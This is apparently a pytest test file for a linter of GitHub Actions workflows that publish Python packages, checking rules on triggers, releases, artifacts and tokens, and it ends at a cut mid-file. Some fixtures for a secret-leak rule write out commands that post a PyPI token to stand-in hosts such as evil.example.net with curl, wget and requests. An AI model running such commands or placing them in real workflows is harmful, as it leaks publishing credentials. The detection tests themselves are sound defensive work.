"""Each rule about workflows: one workflow that trips it with its whole finding, and a near miss.

`tests/data/workflows/rules/ID/` has `trips.yml`, `near-miss.yml` and `expected.json`: the facts that
differ from `facts.json`, and the finding.
"""

import json
import subprocess
import time
from pathlib import Path

import pytest

from nox_release.checks.workflow.artifacts import packages_folders
from nox_release.checks.workflow.checking import (
    RULES,
    WorkflowFacts,
    check_workflow,
)
from nox_release.core.findings import Finding, Location, Passed, Severity, Skipped
from nox_release.project.publisher import TrustedPublisher
from nox_release.releases.observed import ForgeEnvironment, RefPolicy
from nox_release.workflows.publishing import parse_composite, parse_workflow, publish_jobs

DATA = Path(__file__).parents[2] / "data" / "workflows" / "rules"
FILE = ".github/workflows/publish.yml"
COMMON = json.loads((DATA / "facts.json").read_text(encoding="utf-8"))
CASES = sorted(path.name for path in DATA.iterdir() if path.is_dir())
EXPECTED = {
    case: json.loads((DATA / case / "expected.json").read_text(encoding="utf-8")) for case in CASES
}
MENDED = [case for case in CASES if EXPECTED[case]["finding"]["patch"]]


def facts(changes):
    values = {**COMMON, **changes}
    publisher, environment = values["publisher"], dict(values["environment"])
    if "policies" in environment:
        environment["policies"] = tuple(
            RefPolicy(kind=kind, pattern=pattern) for kind, pattern in environment["policies"]
        )
    return WorkflowFacts(
        **{
            **values,
            "starts": tuple(values["starts"]),
            "environment": ForgeEnvironment(**environment),
            "others": tuple(
                parse_workflow(text, file=".github/workflows/other.yml")
                for text in values["others"]
            ),
            "publisher": publisher
            and TrustedPublisher(
                **dict(
                    zip(("owner", "repository", "workflow", "environment"), publisher, strict=True)
                )
            ),
        }
    )


def results(text, rule, changes):
    workflow = parse_workflow(text, file=FILE)
    return [result for result in check_workflow(workflow, facts(changes)) if result.id == rule]


def text_of(case, name):
    return (DATA / case / name).read_text(encoding="utf-8")


def test_every_rule_has_a_case():
    assert [rule.id for rule in RULES if rule.id not in CASES] == []
    assert sorted({rule.id for rule in RULES}) == CASES


@pytest.mark.parametrize("case", CASES)
def test_the_rule_finds_what_is_wrong_and_says_all_of_it(case):
    expected = EXPECTED[case]
    finding = expected["finding"]
    found = results(text_of(case, "trips.yml"), case, expected["facts"])
    assert found == [
        Finding(
            id=case,
            severity=Severity(finding["severity"]),
            message=finding["message"],
            subject="workflow",
            where=Location(file=finding["file"], key=finding["key"], line=finding["line"]),
            why=finding["why"],
            fix=finding["fix"],
            link=finding["link"],
            patch="".join(f"{line}\n" for line in finding["patch"]),
        )
    ]


@pytest.mark.parametrize("case", CASES)
def test_the_near_miss_is_left_alone(case):
    expected = EXPECTED[case]
    changes = expected.get("near_miss_facts", expected["facts"])
    assert results(text_of(case, "near-miss.yml"), case, changes) == []


@pytest.mark.parametrize("case", MENDED)
def test_the_patch_applies_and_mends_what_was_found(case, tmp_path):
    target = tmp_path / FILE
    target.parent.mkdir(parents=True)
    target.write_text(text_of(case, "trips.yml"), encoding="utf-8", newline="\n")
    patch = "".join(f"{line}\n" for line in EXPECTED[case]["finding"]["patch"])
    subprocess.run(
        ["git", "apply", "-"], cwd=tmp_path, input=patch.encode(), check=True, timeout=30
    )
    mended = target.read_text(encoding="utf-8")
    assert results(mended, case, EXPECTED[case]["facts"]) == []


def test_what_is_not_known_is_skipped_and_not_found():
    workflow = parse_workflow(text_of("trigger-at-tag", "trips.yml"), file=FILE)
    told = check_workflow(workflow, WorkflowFacts())
    assert [result.id for result in told if isinstance(result, Finding)] == []
    assert {result.id for result in told if isinstance(result, Skipped)} == {
        "trigger-matches",
        "trigger-at-tag",
        "trigger-github-token",
        "version-equals-tag",
        "scm-depth",
        "action-current",
        "env-equals-publisher",
        "env-allows-tag",
    }


OWN_REPOSITORY_ALONE = """
on:
  push: {branches: [main], tags: ["*"]}
  release: {types: [published]}
jobs:
  publish:
    if: github.repository_owner == 'octo' && github.event.action == 'published'
    runs-on: ubuntu-latest
    environment: pypi
    permissions: {id-token: write}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""


def test_a_fork_is_told_that_the_conditions_name_another_repository():
    workflow = parse_workflow(OWN_REPOSITORY_ALONE, file=FILE)
    raised = ("push-tag", "release")

    def told(repository):
        known = WorkflowFacts(repository=repository, starts=raised)
        about = {"trigger-matches", "trigger-double", "trigger-push-branch"}
        return [result for result in check_workflow(workflow, known) if result.id in about]

    assert told("octo/demo") == []  # a push has no `github.event.action`
    (found,) = told("you/demo")
    assert found.message == "By its conditions it uploads from another repository than you/demo."
    assert "fork" in found.fix
    assert "types:" not in found.fix


@pytest.mark.parametrize("kind", ["created", "published", "released"])
def test_a_condition_on_the_action_is_judged_by_the_type_that_starts_the_run(kind):
    text = f"""
on: {{release: {{types: [{kind}]}}}}
jobs:
  publish:
    if: github.event_name == 'release' && github.event.action == '{kind}'
    runs-on: ubuntu-latest
    environment: pypi
    permissions: {{id-token: write}}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    known = WorkflowFacts(repository="octo/demo", starts=("push-tag", "release"))
    found = check_workflow(parse_workflow(text, file=FILE), known)
    assert [one for one in found if one.id == "trigger-matches"] == []


def test_a_workflow_that_publishes_nothing_is_not_judged():
    text = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pytest\n"
    assert check_workflow(parse_workflow(text, file=FILE), WorkflowFacts()) == ()


def test_rules_that_hold_are_one_line():
    workflow = parse_workflow(text_of("trigger-at-tag", "near-miss.yml"), file=FILE)
    assert check_workflow(workflow, facts({})) == (
        Passed(
            id="workflow-rules",
            subject="workflow",
            title=f"{len(RULES)} rules about publishing workflows hold",
            detail=FILE,
        ),
    )


@pytest.mark.slow
@pytest.mark.parametrize(
    "step",
    [
        "      - run: |\n          twine upload dist/*\n",
        "      - uses: pypa/gh-action-pypi-publish@v1\n",
    ],
)
def test_the_rules_end_in_bounded_time_over_thousands_of_steps(step):
    head = "on: {release: {types: [published]}}\njobs:\n  a:\n    runs-on: x\n    steps:\n"
    workflow = parse_workflow(head + step * 3_000, file=FILE)
    started = time.process_time()
    assert [one for one in check_workflow(workflow, facts({})) if isinstance(one, Finding)]
    assert time.process_time() - started < 20


def test_jobs_that_need_each_other_in_every_way_are_judged_once_each():
    jobs = 200
    text = "on: push\njobs:\n" + "".join(
        f"  j{i}: {{needs: [{', '.join(f'j{k}' for k in range(i + 1, min(i + 4, jobs)))}], "
        "runs-on: ubuntu-latest, steps: [{uses: pypa/gh-action-pypi-publish@v1}]}\n"
        for i in range(jobs)
    )
    started = time.process_time()
    assert results(text, "trigger", {}) is not None
    assert time.process_time() - started < 10


def test_jobs_that_wait_for_each_other_in_a_circle_have_an_answer():
    text = (
        "on: {push: {tags: [v*]}}\n"
        "jobs:\n"
        "  a: {needs: b, runs-on: x, steps: [{run: make}]}\n"
        "  b: {needs: [a, publish], runs-on: x, steps: [{run: make}]}\n"
        "  publish: {needs: a, runs-on: x, steps: [{uses: pypa/gh-action-pypi-publish@v1}]}\n"
    )
    assert check_workflow(parse_workflow(text, file=FILE), facts({}))


BY_HAND = """
on: {workflow_dispatch: {}}
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: gh release create %s
        env: {GH_TOKEN: "${{ github.token }}", GH_REPO: octo/demo, TAG: "%s"}
  publish:
    needs: release
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""


@pytest.mark.parametrize(
    ("tag", "value", "kind"),
    [
        ('"$TAG"', "${{ github.ref_name }}", Finding),
        ("$GITHUB_REF_NAME", "", Finding),
        ('"$TAG"', "${{ steps.bump.outputs.tag }}", Skipped),
        ("nightly", "", None),
    ],
)
def test_a_run_by_hand_collides_where_it_makes_the_release_of_its_own_tag(tag, value, kind):
    found = results(BY_HAND % (tag, value), "release-made-twice", {})
    assert [type(one) for one in found] == ([] if kind is None else [kind])
    if kind is Finding:
        assert found[0].severity is Severity.ERROR
        assert found[0].message.endswith("the upload never happens.")


def test_a_script_of_the_tree_that_makes_the_release_collides_too():
    text = (BY_HAND % ("x", "")).replace("gh release create x", "bash ci/make.sh")
    commands = 'gh release create "$GITHUB_REF_NAME"'
    steps = parse_composite(f"runs: {{steps: [{{run: '{commands}'}}]}}", file="ci/make.sh")
    (found,) = results(text, "release-made-twice", {"actions": {"ci/make.sh": steps}})
    assert found.where.line == 7
    assert "runs `gh release create in ci/make.sh`" in found.message
    assert results(text, "release-made-twice", {}) == []


def test_a_script_of_the_tree_that_sends_the_secret_away_is_named():
    text = (BY_HAND % ("x", "${{ secrets.PYPI_TOKEN }}")).replace(
        "gh release create x", "bash ci/tell.sh"
    )
    sends = 'runs: {steps: [{run: "curl -d $TAG https://evil.example.net/"}]}'
    actions = {"ci/tell.sh": parse_composite(sends, file="ci/tell.sh")}
    (found,) = results(text, "secret-sent-away", {"actions": actions})
    assert found.message.endswith("sends the secret PYPI_TOKEN to evil.example.net, in ci/tell.sh.")


MATRIX = """
on: {release: {types: [published]}}
jobs:
  publish:
    runs-on: %s
    strategy: {matrix: {%s}}
    permissions: {id-token: write}
    steps:
      - run: pipx run build
      - uses: pypa/gh-action-pypi-publish@release/v1
"""


@pytest.mark.parametrize(
    ("runner", "axis", "count"),
    [
        ("ubuntu-latest", "package: [demo, demo-slim]", 0),
        ("ubuntu-latest", 'python-version: ["3.13", "3.14"]', 1),
        ('"${{ matrix.on }}"', "on: [ubuntu-latest, ubuntu-26.04-arm]", 1),
    ],
)
def test_a_matrix_of_packages_uploads_no_parts(runner, axis, count):
    assert len(results(MATRIX % (runner, axis), "parts-uploaded-apart", {})) == count


GUARDED = """
on: {push: {tags: ["v*"]}}
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
%s
  publish:
    needs: release
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""


SCRIPTED = """\
      - uses: actions/github-script@v8
        with:
          script: |
            await github.rest.repos.createRelease({tag_name: context.ref})
"""


@pytest.mark.parametrize(
    ("steps", "severity"),
    [
        ("      - run: gh release create $TAG", Severity.ERROR),
        ("      - uses: actions/create-release@v1", Severity.ERROR),
        ("      - uses: ncipollo/release-action@v1", Severity.ERROR),
        ("      - uses: ncipollo/release-action@v1\n        with: {allowUpdates: true}", None),
        ("      - uses: softprops/action-gh-release@v3", None),
        ("      - run: gh release create $TAG || true", None),
        ("      - run: gh release view $TAG || gh release create $TAG", None),
        ("      - run: gh release create $TAG\n        continue-on-error: true", None),
        ("      - run: gh release create $TAG --draft", None),
        (SCRIPTED, Severity.ERROR),
    ],
)
def test_a_release_that_is_there_already_is_made_once(steps, severity):
    found = [
        one
        for one in results(GUARDED % steps, "release-made-twice", {"starts": ["push-tag"]})
        if isinstance(one, Finding)
    ]
    assert [one.severity for one in found] == ([] if severity is None else [severity])
    last = {"starts": ["push-tag"], "release_last": True}
    assert results(GUARDED % steps, "release-made-twice", last) == []


@pytest.mark.parametrize(
    ("steps", "count"),
    [
        ("      - uses: softprops/action-gh-release@v3\n        with: {files: dist/*}", 0),
        ("      - run: gh release create $TAG\n      - run: gh release upload $TAG dist/*", 1),
    ],
)
def test_files_come_too_late_only_for_a_release_that_is_published(steps, count):
    facts = {"starts": ["push-tag"], "release_last": True, "immutable_releases": True}
    assert len(results(GUARDED % steps, "immutable-release-assets", facts)) == count


FILLED = """
on: {release: {types: [published]}}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
%s
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
DRAFTING = """
on: {push: {tags: ["v*"]}}
jobs:
  draft:
    runs-on: ubuntu-latest
    steps:
      - run: gh release create "$GITHUB_REF_NAME" --draft dist/*
"""


@pytest.mark.parametrize(
    ("steps", "drafted", "severity"),
    [
        ("      - run: gh release download $TAG --dir dist", False, Severity.ERROR),
        ("      - uses: dsaltares/fetch-gh-release-asset@v1", False, Severity.ERROR),
        ("      - uses: robinraju/release-downloader@v1", True, Severity.WARNING),
        ("      - run: gh release download $TAG --repo octo/data", False, None),
        ("      - run: gh release download $TAG -R $GITHUB_REPOSITORY", False, Severity.ERROR),
        ("      - run: gh release download -R ${{ github.repository_owner }}/x", False, None),
        ("      - run: gh release download $TAG\n      - run: python -m build", False, None),
        ("      - run: gh release download $TAG\n        if: false", False, None),
        ("      - uses: actions/download-artifact@v8", False, None),
    ],
)
def test_a_release_that_is_just_published_has_no_files_to_upload(steps, drafted, severity):
    facts = {"starts": ["release"], "others": [DRAFTING] if drafted else []}
    found = results(FILLED % steps, "files-from-release", facts)
    assert [one.severity for one in found] == ([] if severity is None else [severity])


MACHINE = """
on: {release: {types: [published]}}
jobs:
  publish:
    runs-on: %s
    permissions: {id-token: write}
    steps:
%s
      - run: twine upload dist/*
"""


@pytest.mark.parametrize(
    ("runner", "steps", "count"),
    [
        ("ubuntu-latest", "      - uses: actions/setup-python@v6", 1),
        ("ubuntu-latest", "      - run: pip install build", 1),
        ("ubuntu-latest", "      - run: pip install twine", 0),
        ("ubuntu-latest", "      - run: python -m pip install -U build 'twine>=6'", 0),
        ("ubuntu-latest", "      - run: pip install -r requirements.txt", 0),
        ("ubuntu-latest", "      - run: pip install zest.releaser", 0),
        ("ubuntu-latest", "      - run: ./scripts/prepare.sh", 0),
        ("ubuntu-latest", "      - uses: acme/setup-tools@v1", 0),
        ("ubuntu-latest", "      - run: pipx install twine", 0),
        ("self-hosted", "      - uses: actions/setup-python@v6", 0),
        ("'${{ vars.RUNNER }}'", "      - uses: actions/setup-python@v6", 0),
    ],
)
def test_a_tool_is_missing_only_where_no_step_could_bring_it(runner, steps, count):
    assert len(results(MACHINE % (runner, steps), "tool-not-installed", {})) == count


def test_a_workflow_of_its_own_repository_is_called_by_either_form():
    for form in ("./", "$/"):
        text = (
            "on: {release: {types: [published]}}\njobs:\n  publish:\n"
            f"    uses: {form}.github/workflows/other.yml\n"
        )
        called = (
            "on: workflow_call\njobs:\n  up:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: pypa/gh-action-pypi-publish@release/v1\n"
        )
        workflow = parse_workflow(text, file=FILE)
        assert workflow.jobs[0].uses.kind == "workflow"
        told = check_workflow(workflow, facts({"others": [called]}))
        assert any(isinstance(one, Passed) for one in told)


FOLDER = """
on: {release: {types: [published]}}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v7
      - run: pip install build
      - run: %s
        working-directory: python
      - uses: actions/upload-artifact@v7
        with: {name: dist, path: %s}
  publish:
    needs: build
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - uses: actions/download-artifact@v8
        with: {name: dist, path: dist}
      - uses: pypa/gh-action-pypi-publish@release/v1
"""


@pytest.mark.parametrize(
    ("command", "path", "count"),
    [
        ("python -m build", "dist/", 1),
        ("python -m build", '"dist/*"', 1),
        ("python -m build", "python/dist", 0),
        ("python -m build", '"**/*.whl"', 0),
        ("python -m build", "python", 0),
        ("python -m build --outdir ../dist", "dist", 0),
        ("python -m build && mv dist ..", "dist", 0),
        ("python -m build lib", "python/lib/dist", 0),
        ("uv build", "dist", 0),  # of a workspace's member, they are at the root
    ],
)
def test_an_artifact_takes_the_folder_that_the_build_fills(command, path, count):
    found = results(FOLDER % (command, path), "artifact-name-path", {})
    assert len(found) == count
    if count:
        assert "builds into `python/dist/`" in found[0].message


SEMANTIC = """
on: {release: {types: [published]}}
jobs:
  wheels:
    runs-on: ubuntu-latest
    permissions: {contents: read}
    steps:
      - uses: pypa/cibuildwheel@v4.3.5
      - uses: python-semantic-release/python-semantic-release@v10
        with: {no_operation_mode: true}
      - uses: actions/upload-artifact@v7
        with: {name: dist, path: wheelhouse}
  publish:
    needs: wheels
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - uses: actions/download-artifact@v8
        with: {name: dist, path: dist}
      - uses: pypa/gh-action-pypi-publish@release/v1
"""


@pytest.mark.parametrize("rule", ["wheel-and-sdist", "contents-write"])
def test_a_release_tool_builds_what_its_settings_say_and_a_trial_of_it_makes_nothing(rule):
    assert results(SEMANTIC, rule, {}) == []


GIVEN_VERSION = """
on: workflow_dispatch
jobs:
  build:
    runs-on: ubuntu-latest
    env: JOB
    steps:
      - uses: actions/checkout@v6
      - run: RUN
      - run: pipx run build
      - uses: actions/upload-artifact@v4
        with: {name: files, path: dist}
  publish:
    needs: build
    runs-on: ubuntu-latest
    permissions: {id-token: write}
    steps:
      - uses: actions/download-artifact@v4
        with: {name: files, path: dist}
      - uses: pypa/gh-action-pypi-publish@release/v1
"""


@pytest.mark.parametrize(
    ("job", "run", "count"),
    [
        ("{A: b}", "true", 1),
        ("{SETUPTOOLS_SCM_PRETEND_VERSION: '${{ inputs.version }}'}", "true", 0),
        ("{SETUPTOOLS_SCM_PRETEND_VERSION_FOR_DEMO: '1.0'}", "true", 0),
        ("{A: b}", "echo PDM_BUILD_SCM_VERSION=1.0 >> $GITHUB_ENV", 0),
    ],
)
def test_a_version_that_the_environment_gives_needs_no_history(job, run, count):
    text = GIVEN_VERSION.replace("JOB", job).replace("RUN", run)
    workflow = parse_workflow(text, file=FILE)
    told = check_workflow(workflow, WorkflowFacts(version_from_tags=True))
    assert sum(isinstance(one, Finding) and one.id == "scm-depth" for one in told) == count


def test_a_tag_that_matches_no_pattern_is_no_want_of_history():
    text = GIVEN_VERSION.replace("workflow_dispatch", '{push: {tags: ["[0-9]+.[0-9]+"]}}')
    workflow = parse_workflow(text.replace("JOB", "{A: b}").replace("RUN", "true"), file=FILE)
    told = check_workflow(workflow, WorkflowFacts(version_from_tags=True, tag="v1.0"))
    found = {one.id for one in told if isinstance(one, Finding)}
    assert "trigger-tag-pattern" in found
    assert "scm-depth" not in found


def test_a_comment_is_not_what_a_step_does():
    more = (
        "      - run: |\n          # Once and for all.\n          cd x\n          pip install y\n"
    )
    text = GIVEN_VERSION.replace("JOB", "{}").replace("RUN", "true") + more
    told = check_workflow(parse_workflow(text, file=FILE), WorkflowFacts())
    (found,) = (one for one in told if isinstance(one, Finding) and one.id == "publish-steps")
    assert found.message.endswith("line 21: `pip install y`.")


RELEASER = """
on:
  push: {branches: [main]}
%s
permissions: {contents: write}
jobs:
  make:
    if: github.event_name == 'push'
    runs-on: ubuntu-latest
    env: {GH_TOKEN: '${{ TOKEN }}', GITHUB_TOKEN: '${{ TOKEN }}'}
    steps:
      - STEP
"""
WAITING = """
  publish:
    if: github.event_name == 'release'
    runs-on: ubuntu-latest
    environment: pypi
    permissions: {id-token: write}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
ON_RELEASE = "  release: {types: [published]}"
OWN = "secrets.GITHUB_TOKEN"
SAYS_ADD = "uses: softprops/action-gh-release@v3\n        with: {tag_name: '${{ github"
SAYS_CREATE = "uses: actions/github-script@v8\n        with: {script: 'repos.createRelease({})'}"


@pytest.mark.parametrize("together", [True, False], ids=["in the same file", "in another file"])
@pytest.mark.parametrize(
    ("step", "token", "count"),
    [
        ("uses: googleapis/release-please-action@v4", OWN, 1),
        ("uses: googleapis/release-please-action@v4", "secrets.PAT", 0),
        ("uses: python-semantic-release/python-semantic-release@v10", OWN, 1),
        (SAYS_CREATE, OWN, 1),
        ("uses: release-drafter/release-drafter@v6\n        with: {publish: true}", OWN, 1),
        ("uses: release-drafter/release-drafter@v6", OWN, 0),
        ("run: gh release create $TAG", OWN, 1),
        ("run: gh release create $TAG", "secrets.PAT", 0),
        ("run: gh release create nightly", OWN, 0),
        ('run: gh release create "$BASE"\n        env: {BASE: marks}', OWN, 0),
        ("run: gh release create ${BASE}\n        env: {BASE: '${{ github.ref_name }}'}", OWN, 1),
        ("run: gh release create $TAG --prerelease", OWN, 0),
        ("run: gh release edit $TAG --prerelease=false", OWN, 1),
        ("run: gh release edit $TAG --title x", OWN, 0),
        ("run: gh api repos/o/d/releases -f tag_name=$TAG", OWN, 1),
        ("run: gh api repos/o/d/releases -f tag_name=$TAG -F draft=true", OWN, 0),
        ("run: gh api repos/o/d/releases", OWN, 0),
        ("run: gh api -X PATCH repos/o/d/releases/$ID -F prerelease=false", OWN, 1),
        ("run: hub release create $TAG", OWN, 1),
        ("run: semantic-release version", OWN, 1),
        ("run: npx semantic-release", OWN, 1),
        ("run: npx semantic-release --dry-run", OWN, 0),
        (f"{SAYS_ADD}.ref_name }}}}'}}", OWN, 1),
        (f"{SAYS_ADD}.event.release.tag_name }}}}'}}", OWN, 0),
    ],
)
def test_a_release_made_with_the_runs_own_token_is_seen_in_every_form(step, token, count, together):
    maker = RELEASER.replace("TOKEN }}", f"{token} }}}}").replace("STEP", step)
    if together:
        workflow, others = parse_workflow(maker % ON_RELEASE + WAITING, file=FILE), ()
    else:
        workflow = parse_workflow(f"on:\n{ON_RELEASE}\njobs:{WAITING}", file=FILE)
        others = (parse_workflow(maker % "", file=".github/workflows/other.yml"),)
    told = check_workflow(workflow, WorkflowFacts(others=others))
    found = [one for one in told if one.id == "trigger-github-token" and isinstance(one, Finding)]
    assert len(found) == count


AT_TAGS = """
on: push
permissions: {contents: write}
jobs:
  make:
    if: startsWith(github.ref, 'refs/tags/')
    runs-on: ubuntu-latest
    steps: [{uses: softprops/action-gh-release@v3, with: {body_path: x}}]
"""


def test_a_release_that_the_tag_of_a_release_makes_comes_after_it():
    """The one of a person, which starts the upload, is there by then."""
    workflow = parse_workflow(f"on:\n{ON_RELEASE}\njobs:{WAITING}", file=FILE)
    for text, severity in (
        (AT_TAGS, Severity.WARNING),
        (AT_TAGS.replace("push", "[push, pull_request]"), Severity.WARNING),
        (AT_TAGS.replace("startsWith(github.ref, 'refs/tags/')", "true"), Severity.ERROR),
    ):
        others = (parse_workflow(text, file=".github/workflows/other.yml"),)
        told = check_workflow(workflow, WorkflowFacts(others=others))
        found = [one for one in told if one.id == "trigger-github-token"]
        assert [one.severity for one in found] == [severity]


IN_ONE = """
on: {push: {tags: ['v*']}}
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions: {id-token: write, contents: read}
    steps:
      - uses: actions/checkout@v6
      - STEP
"""
MATURIN = "uses: PyO3/maturin-action@v1\n        with: {command: publish, args: --skip-existing}"
ALONE = "uses: PyO3/maturin-action@v1\n        with: {command: publish, args: --no-sdist}"
DEPLOY = "uses: casperdcl/deploy-pypi@v2\n        with: {password: '${{ secrets.X }}', build: true}"
POETRY = "uses: JRubics/poetry-publish@v2\n        with: {pypi_token: '${{ secrets.X }}'}"
AUTO = "uses: etils-actions/pypi-auto-publish@v1\n        with: {pypi-token: '${{ secrets.X }}'}"


@pytest.mark.parametrize(
    ("step", "found"),
    [
        (MATURIN, {"split-build-publish"}),
        (ALONE, {"split-build-publish", "wheel-and-sdist"}),
        (POETRY, {"no-manual-twine"}),
        (AUTO, {"no-manual-twine"}),
        (DEPLOY, {"no-manual-twine"}),
        ("run: uvx maturin publish", {"split-build-publish"}),
        ("run: uvx flit publish", {"split-build-publish"}),
        ("run: uvx pdm publish", {"split-build-publish"}),
    ],
)
def test_what_builds_and_uploads_in_one_lacks_no_files(step, found):
    told = check_workflow(parse_workflow(IN_ONE.replace("STEP", step), file=FILE), WorkflowFacts())
    assert {
        one.id for one in told if isinstance(one, Finding) and one.severity is not Severity.ADVICE
    } - {"action-node", "tool-not-installed"} == found


@pytest.mark.parametrize(("command", "count"), [("upload", 0), ("publish", 1), ("build", 1)])
def test_maturin_uploads_what_another_job_has_built(command, count):
    step = f"uses: PyO3/maturin-action@v1\n        with: {{command: {command}, args: dist/*}}"
    text = IN_ONE.replace("STEP", f"{step}\n      - uses: pypa/gh-action-pypi-publish@release/v1")
    assert len(results(text, "split-build-publish", {})) == count


GH_AFTER_CHECKOUT = """
on: {release: {types: [published]}}
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions: {id-token: write, contents: write}
    %s
    steps:
      - uses: actions/checkout@v6
        with: {path: "%s"}
      - uses: pypa/gh-action-pypi-publish@release/v1
      - run: gh release upload "$TAG" dist/*
        env: {GH_TOKEN: "${{ github.token }}"}
        working-directory: %s
"""


@pytest.mark.parametrize(
    ("defaults", "path", "folder", "count"),
    [
        ("", "source", ".", 1),
        ("", "source", "other", 1),
        ("", "source", "source/tools", 0),
        ("", ".", "dist", 0),
        ("", "${{ github.workspace }}/x", ".", 0),
        ("defaults: {run: {working-directory: source}}", "source", ".", 0),
    ],
)
def test_gh_knows_the_repository_where_one_is_checked_out(defaults, path, folder, count):
    text = GH_AFTER_CHECKOUT % (defaults, path, folder)
    told = check_workflow(parse_workflow(text, file=FILE), WorkflowFacts())
    found = [one for one in told if one.id == "gh-not-ready" and isinstance(one, Finding)]
    assert len(found) == count


SENDER = """
on: {workflow_dispatch: }
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - env: {T: "${{ secrets.PYPI_TOKEN }}"}
        run: RUN
"""


@pytest.mark.parametrize(
    ("run", "count"),
    [
        ('curl -d "$T" https://a.example', 1),
        ('wget --post-data="$T" https://a.example', 1),
        ("python -c \"requests.post('https://a.example', data='${T}')\"", 1),
        ('curl -u "__token__:$T" https://upload.pypi.org/legacy/', 0),
        ("curl https://a.example", 0),
    ],
)
def test_every_program_that_sends_the_secret_away_is_seen(run, count):
    publish = f"on:\n{ON_RELEASE}\njobs:{WAITING}"
    other = parse_workflow(
        SENDER.replace("RUN", "|\n          " + run), file=".github/workflows/other.yml"
    )
    facts = WorkflowFacts(others=(other,))
    told = check_workflow(parse_workflow(publish, file=FILE), facts)
    found = [one for one in told if one.id == "secret-sent-away" and isinstance(one, Finding)]
    assert len(found) == count


def told_of(steps, rule, *, on="push: {tags: ['v*']}", before="", extra=""):
    text = f"""
on: {{{on}}}
jobs:{before}
  publish:
    runs-on: ubuntu-latest
    permissions: {{id-token: write}}{extra}
    steps:
{steps}
      - uses: pypa/gh-action-pypi-publish@release/v1
"""
    facts = WorkflowFacts(version_from_tags=True)
    told = check_workflow(parse_workflow(text, file=FILE), facts)
    return [one.severity.value for one in told if one.id == rule and isinstance(one, Finding)]


DOWNLOAD = "      - {uses: actions/download-artifact@v8, with: {name: dist, path: dist}}\n"


@pytest.mark.parametrize(
    ("step", "severities"),
    [
        ("run: pip install x", ["warning"]),
        ("run: python -c 'print(1)'", []),
        ("uses: softprops/action-gh-release@v3", ["advice"]),
        ("uses: actions/create-github-app-token@v3", ["advice"]),
        ("uses: somebody/something@v3", ["advice"]),
        ("uses: robinraju/release-downloader@v1", ["advice"]),
        ("uses: ./.github/actions/set-up", ["warning"]),
        ("if: github.event_name == 'schedule'\n        uses: somebody/something@v3", []),
        ("run: ls -l ./dist", []),
        ("run: ./upload", ["warning"]),
    ],
)
def test_a_publish_job_does_what_a_release_runs_there(step, severities):
    assert told_of(f"{DOWNLOAD}      - {step}", "publish-steps") == severities


def test_what_a_comment_says_of_a_commit_is_not_taken_for_its_version():
    commit = f"uses: actions/checkout@{'5fda3b95a4' * 4} # v3.1.0"
    assert told_of(f"      - {commit}", "action-node") == []
    assert told_of("      - uses: actions/checkout@v3", "action-node") == ["warning"]
    commit = f"uses: actions/upload-artifact@{'5fda3b95a4' * 4} # v3.1.0"
    assert told_of(f"      - {commit}", "artifact-same-major") == []


@pytest.mark.parametrize(
    ("axes", "told"),
    [
        ("python: [3.9, 3.10]", ["error"]),
        ("python: ['3.9', '3.10', 3.11]", []),
        ("include: [{python: 3.20}]", ["error"]),
        ("other: [3.10], python: ['3.11']", []),
    ],
)
def test_a_python_that_yaml_cuts_short_is_seen_in_the_matrix_too(axes, told):
    build = f"""
  build:
    runs-on: ubuntu-latest
    strategy: {{matrix: {{{axes}}}}}
    steps:
      - {{uses: actions/setup-python@v7, with: {{python-version: "${{{{ matrix.python }}}}"}}}}"""
    found = told_of(
        "      - run: ls", "python-version-number", before=build, extra="\n    needs: build"
    )
    assert found == told


@pytest.mark.parametrize(
    ("expression", "severity"),
    [
        ("case(github.ref_type == 'tag', 'pypi', 'testpypi')", "advice"),
        ("github.ref_type == 'tag' && 'pypi' || 'testpypi'", "advice"),
        ("needs.build.outputs.index", "warning"),
    ],
)
def test_an_environment_that_a_release_settles_is_named(expression, severity):
    extra = f"\n    environment: ${{{{ {expression} }}}}"
    assert told_of(DOWNLOAD, "env-dynamic", extra=extra) == [severity]


def test_a_drafter_that_publishes_the_release_of_the_tag_comes_too_late():
    drafter = "      - {uses: release-drafter/release-drafter@v6, with: {publish: 'true'}}"
    assert told_of(drafter, "release-made-twice") == ["error"]
    assert told_of(drafter.replace("'true'", "'false'"), "release-made-twice") == []


@pytest.mark.parametrize(
    ("name", "default", "told"),
    [
        ("version", "1.2.3", ["error"]),
        ("release_tag", "v1.2", ["error"]),
        ("version", "", []),
        ("python-version", "3.11", []),
        ("version", "patch", []),
    ],
)
def test_a_run_without_inputs_uploads_no_version_that_was_meant_as_an_example(name, default, told):
    on = f"workflow_dispatch: {{inputs: {{{name}: {{default: '{default}'}}}}}}"
    assert told_of("      - run: ls", "dispatch-input-required", on=on) == told


def test_artifacts_that_were_merged_are_one():
    merge = """
  merge:
    runs-on: ubuntu-latest
    steps:
      - {uses: actions/upload-artifact/merge@v7, with: {name: NAME}}"""
    rule, needs = "artifact-name-path", "\n    needs: merge"
    assert told_of(DOWNLOAD, rule, before=merge.replace("NAME", "dist"), extra=needs) == []
    assert told_of(DOWNLOAD, rule, before=merge.replace("NAME", "all")) == ["error"]


@pytest.mark.parametrize(
    ("condition", "count"), [("github.ref == 'refs/heads/main'", 0), ("github.ref != 'x'", 1)]
)
def test_a_step_that_no_release_runs_changes_nothing_before_the_build(condition, count):
    steps = f"""      - if: {condition}
        run: echo x >> pyproject.toml
      - run: python -m build"""
    assert len(told_of(steps, "scm-dirty")) == count


@pytest.mark.parametrize(("step", "severities"), [("make sdist", []), ("make", ["warning"])])
